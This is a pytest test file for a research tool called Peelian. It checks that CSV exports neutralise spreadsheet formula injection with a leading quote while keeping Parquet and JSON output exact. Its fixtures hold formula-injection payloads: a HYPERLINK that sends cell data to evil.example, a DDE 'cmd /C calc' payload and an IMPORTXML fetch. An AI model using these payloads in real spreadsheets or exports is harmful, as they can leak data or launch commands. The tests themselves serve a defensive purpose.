"""Hostile post text in every CSV Peelian writes for people: a spreadsheet shows it, never runs it.

The OWASP rule: a text cell starting with `=`, `+`, `-`, `@`, tab or carriage return gets a leading
`'`. Numbers stay numbers (numeric columns are never touched, and text that is just a number is
left alone), Parquet and JSON keep the exact text, and the sheets Peelian reads back (coding
sheets, adjudication decisions, classifier predictions) read back exactly as they were.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from peelian import Project
from peelian.classify import predict_file, train_file
from peelian.coding.codings import effective_codings, record_coding
from peelian.coding.gold import export_disagreements
from peelian.coding.samples import create_sample
from peelian.coding.sheets import export_sheet, import_sheet
from peelian.metrics import export_metric_set
from peelian.store.safe_text import (
    neutralise_arrow,
    neutralise_cell,
    neutralise_sql,
    restore_cell,
)
from tests.classify.conftest import labelled_posts
from tests.coding.conftest import add_posts
from tests.web.conftest import (  # noqa: F401  (fixtures used by name)
    app,
    client_for,
    web_project,
    web_project_template,
)

HOSTILE = {
    "h1": '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "h2": "+SUM(1+1)*cmd|' /C calc'!A0",
    "h3": "@handle hi",
    "h4": "-1+2",
    "h5": "\t=1+1 after a tab",
    "h6": "\r=1+1 after a carriage return",
}
HARMLESS = {"n1": "-5", "n2": "hello = world", "n3": "'quoted'"}


def _rows(text: str) -> dict[str, dict[str, str]]:
    return {r["post_id"]: r for r in csv.DictReader(io.StringIO(text))}


def _add_hostile_posts(project: Project) -> None:
    add_posts(project, [dict(platform="twitter", post_id=post_id, author_id="cit", author_handle="c_00000000000000aa",
                             author_role="citizen", created_at="2025-05-02 10:00:00", text=text, kind="original",
                             conversation_id=post_id)
                        for post_id, text in {**HOSTILE, **HARMLESS}.items()])
    project.con.execute("UPDATE posts SET like_count = -3 WHERE post_id = 'n1'")


def _assert_neutralised(rows: dict[str, dict[str, str]], column: str = "text") -> None:
    for post_id, text in HOSTILE.items():
        assert rows[post_id][column] == "'" + text, post_id
    for post_id, text in HARMLESS.items():
        assert rows[post_id][column] == text, post_id


@pytest.mark.parametrize("value", [*HOSTILE.values(), *HARMLESS.values(), "", "-", "'=x", "''@y", "+1.5e3",
                                   "-3\n", "1-", "-\u0663"])
def test_rule_is_the_same_in_python_duckdb_and_arrow_and_round_trips(value: str) -> None:
    expected = neutralise_cell(value)
    assert restore_cell(expected) == value
    with duckdb.connect() as con:
        assert con.execute(f"SELECT {neutralise_sql('x')} FROM (SELECT ?::VARCHAR AS x)", [value]).fetchall() \
            == [(expected,)]
    assert neutralise_arrow(pa.table({"x": [value]})).column("x").to_pylist() == [expected]


def test_rule_leaves_numbers_and_non_text_alone() -> None:
    assert neutralise_cell(-3) == -3 and neutralise_cell(None) is None and neutralise_cell("-3") == "-3"
    table = neutralise_arrow(pa.table({"n": [-1, 2], "s": pa.array(["=a", None]).dictionary_encode()}))
    assert table.column("n").to_pylist() == [-1, 2] and table.column("s").to_pylist() == ["'=a", None]


def test_web_explorer_export_neutralises_text_cells(client_for, web_project) -> None:
    _add_hostile_posts(web_project)
    response = client_for("analyst").get("/explorer/export.csv")
    assert response.status_code == 200
    rows = _rows(response.text)
    _assert_neutralised(rows)
    assert rows["n1"]["like_count"] == "-3"  # a numeric column stays a number


def test_cli_export_neutralises_csv_and_keeps_parquet_and_jsonl_exact(cli, project_path: Path,
                                                                     tmp_path: Path) -> None:
    project = Project.open(project_path)
    _add_hostile_posts(project)
    project.close()
    for suffix in ("csv", "parquet", "jsonl"):
        result = cli("export", project_path, "posts", "--to", tmp_path / f"posts.{suffix}")
        assert result.exit_code == 0, result.output
    rows = _rows((tmp_path / "posts.csv").read_bytes().decode("utf-8"))
    _assert_neutralised(rows)
    assert rows["n1"]["like_count"] == "-3"
    exact = {**HOSTILE, **HARMLESS}
    parquet = pq.read_table(tmp_path / "posts.parquet").to_pylist()
    assert {r["post_id"]: r["text"] for r in parquet} == exact
    lines = [json.loads(line) for line in (tmp_path / "posts.jsonl").read_text(encoding="utf-8").splitlines()]
    assert {r["post_id"]: r["text"] for r in lines} == exact


def test_coding_sheet_is_neutralised_and_reads_back_exactly(project: Project, tmp_path: Path) -> None:
    _add_hostile_posts(project)
    create_sample(project, "s", post_ids=list(HOSTILE), coders=["ana"], overlap=1.0, shuffle=False)
    record_coding(project, "ana", "twitter", "h1", "citizen_intent", ["question"], note="=IMPORTXML(\"http://evil\")")
    record_coding(project, "ana", "twitter", "h2", "citizen_intent", [], note="'=already quoted")
    path = tmp_path / "ana.csv"
    export_sheet(project, "s", "ana", path)
    reader = csv.DictReader(io.StringIO(path.read_bytes().decode("utf-8-sig")))
    header, rows = list(reader.fieldnames or []), list(reader)
    by_id = {r["post_id"]: r for r in rows}
    for post_id, text in HOSTILE.items():
        assert by_id[post_id]["text"] == "'" + text
    assert by_id["h1"]["note"] == "'=IMPORTXML(\"http://evil\")" and by_id["h2"]["note"] == "''=already quoted"
    assert by_id["h2"]["citizen_intent"] == "-"  # "none apply" is Peelian's own vocabulary, written as it is
    by_id["h3"].update(citizen_intent="question", note="-- see the thread")
    buffer = io.StringIO()
    writer = csv.DictWriter(buffer, header, lineterminator="\r\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buffer.getvalue(), encoding="utf-8-sig")
    import_sheet(project, path)
    notes = {c.post_id: c.note for c in effective_codings(project, coder="ana")}
    assert notes == {"h1": "=IMPORTXML(\"http://evil\")", "h2": "'=already quoted", "h3": "-- see the thread"}


def test_disagreements_sheet_neutralises_post_text(project: Project, tmp_path: Path) -> None:
    _add_hostile_posts(project)
    create_sample(project, "s", post_ids=["h1", "h3"], coders=["ana", "ben"], overlap=1.0, shuffle=False)
    for post_id in ("h1", "h3"):
        record_coding(project, "ana", "twitter", post_id, "citizen_intent", ["question"], note="@ben why?")
        record_coding(project, "ben", "twitter", post_id, "citizen_intent", ["report"])
    path = tmp_path / "disagreements.csv"
    assert export_disagreements(project, "s", path) == 2
    rows = _rows(path.read_bytes().decode("utf-8-sig"))
    assert rows["h1"]["text"] == "'" + HOSTILE["h1"] and rows["h3"]["text"] == "'" + HOSTILE["h3"]
    assert rows["h1"]["ana_note"] == "'@ben why?" and rows["h1"]["ana_codes"] == "question"


def test_metric_set_csv_neutralises_text_columns(web_project, tmp_path: Path) -> None:
    hostile_force = '=HYPERLINK("http://evil.example","Kent")'
    web_project.con.execute("UPDATE posts SET author_force = ? WHERE author_force = 'Kent'", [hostile_force])
    web_project.con.execute("UPDATE registry SET force = ? WHERE force = 'Kent'", [hostile_force])
    export_metric_set(web_project, tmp_path / "set.csv")
    export_metric_set(web_project, tmp_path / "set.parquet")
    forces = {r["force"] for r in csv.DictReader(io.StringIO((tmp_path / "set.csv").read_bytes().decode("utf-8")))}
    assert "'" + hostile_force in forces and hostile_force not in forces
    assert hostile_force in set(pq.read_table(tmp_path / "set.parquet").column("force").to_pylist())


def test_classifier_predictions_are_neutralised_and_read_back_exactly(tmp_path: Path) -> None:
    labelled = tmp_path / "labelled.csv"
    with labelled.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["text", "label"], *labelled_posts()])
    model = tmp_path / "model"
    train_file(labelled, text="text", label="label", model_out=model, algorithm="linear", learning_curve=False)
    source = tmp_path / "posts.csv"
    with source.open("w", newline="", encoding="utf-8") as f:
        csv.writer(f).writerows([["post_id", "score", "text"],
                                 *[[post_id, "-3", text] for post_id, text in {**HOSTILE, **HARMLESS}.items()]])
    predict_file(model, source, text="text", out=tmp_path / "out.csv")
    rows = _rows((tmp_path / "out.csv").read_bytes().decode("utf-8"))
    _assert_neutralised(rows)
    assert {r["score"] for r in rows.values()} == {"-3"} and float(rows["h1"]["probability"]) > 0
    predict_file(model, tmp_path / "out.csv", text="text", out=tmp_path / "again.csv")
    again = _rows((tmp_path / "again.csv").read_bytes().decode("utf-8"))
    assert {k: r["text"] for k, r in again.items()} == {k: r["text"] for k, r in rows.items()}
    assert [r["predicted"] for r in again.values()] == [r["predicted"] for r in rows.values()]
